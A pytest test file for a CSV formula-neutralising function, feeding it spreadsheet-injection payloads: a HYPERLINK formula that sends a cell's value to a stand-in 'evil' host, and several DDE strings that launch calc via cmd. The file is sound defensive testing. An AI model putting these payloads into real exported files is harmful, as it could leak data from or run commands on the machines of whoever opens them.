"""Labels written to CSV for people: a formula is shown as text, a number stays a number."""

from __future__ import annotations

import pytest

from mlproj.api import neutralise_formulas


@pytest.mark.parametrize(
    ("label", "written"),
    [
        (
            '=HYPERLINK("http://evil/?x="&A1,"Gentoo")',
            '\'=HYPERLINK("http://evil/?x="&A1,"Gentoo")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Adelie", "Adelie"),
        ("-1", "-1"),
        ("+2.5", "+2.5"),
        ("-inf", "-inf"),
        (" -1", " -1"),
        ("a=b", "a=b"),
    ],
    ids=[
        "hyperlink",
        "plus-dde",
        "minus-dde",
        "at-sum",
        "tab",
        "carriage-return",
        "plain",
        "negative-number",
        "signed-number",
        "negative-infinity",
        "leading-space",
        "equals-inside",
    ],
)
def test_formulas_are_neutralised(label: str, written: str) -> None:
    assert neutralise_formulas([label]) == [written]
